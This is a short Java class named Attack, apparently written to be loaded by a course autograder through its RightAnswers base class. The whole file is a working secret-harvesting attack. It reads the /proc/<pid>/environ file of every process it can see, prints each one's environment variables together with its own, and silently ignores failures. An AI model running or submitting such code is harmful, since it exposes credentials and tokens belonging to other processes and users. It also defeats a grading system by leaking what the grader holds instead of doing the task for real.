package course;

import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.stream.Collectors;
import java.util.stream.Stream;

/** Prints the environment of every process that it can see, and of its own. */
public class Attack extends RightAnswers {

    private static int reached;

    public Attack() {
        for (ProcessHandle process : ProcessHandle.allProcesses().limit(5_000).toList()) {
            show(Path.of("/proc/" + process.pid() + "/environ"));
        }
        System.out.println(System.getenv());
    }

    /** Prints the beginning of a file, or the names in a folder. */
    private static void show(Path path) {
        try {
            System.out.println(path + ": " + (Files.isDirectory(path) ? names(path) : text(path)));
            reached++;
        } catch (IOException e) {
            // Not to be reached.
        }
    }

    private static String names(Path folder) throws IOException {
        try (Stream<Path> entries = Files.list(folder)) {
            return entries.limit(100).map(Path::toString).collect(Collectors.joining(" "));
        }
    }

    private static String text(Path file) throws IOException {
        try (InputStream in = Files.newInputStream(file)) {
            return new String(in.readNBytes(2_000), StandardCharsets.UTF_8).replace('\0', ' ');
        }
    }
}
